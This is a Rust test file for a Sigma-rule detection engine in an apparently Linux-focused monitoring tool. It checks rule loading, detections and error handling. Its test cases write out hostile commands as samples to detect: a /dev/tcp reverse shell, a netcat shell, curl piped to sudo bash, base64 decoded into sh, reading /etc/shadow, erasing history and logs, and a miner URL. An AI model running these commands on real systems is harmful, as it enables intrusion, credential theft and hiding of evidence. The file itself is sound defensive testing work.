use std::path::PathBuf;

use fleetmend_event::Fact;
use fleetmend_event::TimeMicros;
use fleetmend_event::table::{ProbeState, ProcessEvent, ProcessEventKind, Severity, Source, SubjectKind};

use super::*;

fn shipped() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/rules"))
}

fn exec(exe: &str, args: &[&str]) -> Fact {
    let event = ProcessEvent {
        time: TimeMicros(1),
        boot_ns: 1,
        kind: ProcessEventKind::Exec,
        pid: 10,
        start_boot_ns: 1,
        ppid: 1,
        parent_comm: Some("sshd".into()),
        parent_exe: Some("/usr/sbin/sshd".into()),
        parent_command_line: None,
        comm: exe.rsplit('/').next().unwrap().into(),
        exe: Some(exe.into()),
        args: args.iter().map(|arg| (*arg).to_owned()).collect(),
        args_truncated: false,
        uid: 0,
        gid: 0,
        cgroup: None,
        unit: None,
        container_id: None,
        exit_code: None,
        exit_signal: None,
        duration_us: None,
        user_us: None,
        system_us: None,
        rss_bytes_max: None,
        source: Source::Ebpf,
        euid: None,
        login_uid: None,
        working_directory: None,
        fileless: None,
    };
    event.into()
}

fn titles(sigma: &mut Sigma, fact: &Fact) -> Vec<String> {
    sigma
        .observe(fact)
        .into_iter()
        .map(|notice| notice.title)
        .collect()
}

#[test]
fn every_packaged_rule_is_loaded() {
    let sigma = Sigma::load(&[shipped()]);
    let others: Vec<_> = sigma
        .listing()
        .iter()
        .filter(|rule| rule.state != RuleState::Loaded)
        .collect();
    assert_eq!(others, Vec::<&RuleListing>::new());
    assert!(sigma.listing().len() >= 12);
    assert_eq!(sigma.status().state, ProbeState::Real);
}

#[test]
fn packaged_rules_fire_on_what_they_describe() {
    let mut sigma = Sigma::load(&[shipped()]);
    let cases: &[(&str, &[&str], &str)] = &[
        (
            "/usr/bin/bash",
            &["bash", "-c", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"],
            "Shell Connected to a Network Device File",
        ),
        (
            "/usr/bin/nc",
            &["nc", "-lvp", "4444", "-e", "/bin/sh"],
            "Netcat Starts a Shell",
        ),
        (
            "/usr/bin/python3.11",
            &["python3", "-c", "import socket,os;os.dup2(1,2)"],
            "Script Interpreter Joins a Socket to a Shell",
        ),
        (
            "/usr/bin/bash",
            &["bash", "-c", "curl -s http://192.0.2.1/x | sudo bash"],
            "Download Piped to a Shell",
        ),
        (
            "/usr/bin/bash",
            &["bash", "-c", "echo aWQ= | base64 -d | sh"],
            "Base64 Text Decoded Into a Shell",
        ),
        (
            "/tmp/.x/.kworker",
            &["kworker"],
            "Hidden Program Run From a World-Writable Folder",
        ),
        (
            "/usr/bin/cat",
            &["cat", "/etc/shadow"],
            "Password Hashes Read With a Text Tool",
        ),
        (
            "/usr/bin/tee",
            &["tee", "/etc/ld.so.preload"],
            "Preload File Named on a Command Line",
        ),
        (
            "/usr/bin/rm",
            &["rm", "-f", "/root/.bash_history"],
            "Shell History Removed",
        ),
        (
            "/usr/bin/truncate",
            &["truncate", "-s0", "/var/log/auth.log"],
            "System Log Removed or Emptied",
        ),
        (
            "/opt/x",
            &["x", "-o", "stratum+tcp://192.0.2.1:3333"],
            "Cryptocurrency Miner",
        ),
    ];
    for (exe, args, title) in cases {
        let found = titles(&mut sigma, &exec(exe, args));
        assert!(
            found.iter().any(|found| found == title),
            "{args:?} gave {found:?}, not {title:?}"
        );
    }
}

#[test]
fn packaged_rules_are_silent_on_everyday_commands() {
    let mut sigma = Sigma::load(&[shipped()]);
    let cases: &[(&str, &[&str])] = &[
        (
            "/usr/bin/bash",
            &["bash", "-c", "for i in 1 2 3; do echo $i; done"],
        ),
        (
            "/usr/bin/curl",
            &[
                "curl",
                "-fsSL",
                "https://example.com/list.txt",
                "-o",
                "/tmp/list.txt",
            ],
        ),
        ("/usr/bin/python3.11", &["python3", "-m", "http.server"]),
        ("/usr/bin/cat", &["cat", "/etc/passwd"]),
        ("/usr/sbin/logrotate", &["logrotate", "/etc/logrotate.conf"]),
        ("/usr/bin/rm", &["rm", "-rf", "/var/cache/apt/archives"]),
        ("/tmp/build/a.out", &["./a.out"]),
        ("/usr/bin/base64", &["base64", "-d", "file"]),
    ];
    for (exe, args) in cases {
        assert_eq!(
            titles(&mut sigma, &exec(exe, args)),
            Vec::<String>::new(),
            "{args:?}"
        );
    }
}

#[test]
fn finding_carries_technique_fields_and_evidence() {
    let mut sigma = Sigma::load(&[shipped()]);
    let notices = sigma.observe(&exec("/usr/bin/cat", &["cat", "/etc/shadow"]));
    let notice = notices.first().unwrap();
    assert_eq!(notice.techniques, ["T1003.008"]);
    assert_eq!(notice.tactics, ["credential-access"]);
    assert_eq!(notice.severity, Severity::High);
    assert_eq!(notice.evidence["process_events"]["args"][1], "/etc/shadow");
    assert!(
        notice
            .factors
            .as_array()
            .unwrap()
            .iter()
            .any(|factor| factor["feature"] == "CommandLine"),
        "{}",
        notice.factors
    );
}

#[test]
fn broken_rule_is_listed_with_its_reason_and_hinders_no_other() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("a.yml"), "title: [broken").unwrap();
    std::fs::write(folder.path().join("b.yml"), [0xff, 0xfe, 0x00]).unwrap();
    let other = "title: Other\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image: x}, condition: s}\n";
    std::fs::write(folder.path().join("c.yml"), other).unwrap();
    let good = "title: Good\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: /x}, condition: s}\n";
    std::fs::write(folder.path().join("d.yml"), good).unwrap();
    let bad = "title: No condition\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {Image: /x}, condition: t}\n";
    std::fs::write(folder.path().join("e.yml"), bad).unwrap();
    let mut sigma = Sigma::load(&[folder.path().to_owned(), folder.path().join("absent")]);
    let states: Vec<&RuleState> = sigma.listing().iter().map(|rule| &rule.state).collect();
    assert!(
        matches!(
            states.as_slice(),
            [
                RuleState::Broken(_),
                RuleState::Broken(_),
                RuleState::Broken(_),
                RuleState::Unsupported(_),
                RuleState::Loaded,
                RuleState::Broken(_)
            ]
        ),
        "{states:?}"
    );
    assert_eq!(titles(&mut sigma, &exec("/x", &["x"])), ["Good"]);
    let status = sigma.status();
    assert_eq!(status.state, ProbeState::Degraded);
    assert!(
        status.reason.contains("1 loaded, 1 unsupported, 4 broken"),
        "{}",
        status.reason
    );
}

#[test]
fn public_process_and_connection_rules_are_loaded() {
    let Some(data) = std::env::var_os("FLEETMEND_DATA") else {
        println!("did not run: FLEETMEND_DATA is not set");
        return;
    };
    let folder = PathBuf::from(data).join("sigma/rules/linux");
    for category in ["process_creation", "network_connection"] {
        let sigma = Sigma::load(&[folder.join(category)]);
        let loaded = sigma
            .listing()
            .iter()
            .filter(|rule| rule.state == RuleState::Loaded)
            .count();
        let others: Vec<_> = sigma
            .listing()
            .iter()
            .filter(|rule| rule.state != RuleState::Loaded)
            .collect();
        assert!(
            loaded > 0 && others.is_empty(),
            "{category}: {loaded} loaded, others: {others:#?}"
        );
    }
}

mod broken;
mod correlation;
mod kinds;
mod shipped;
mod site;
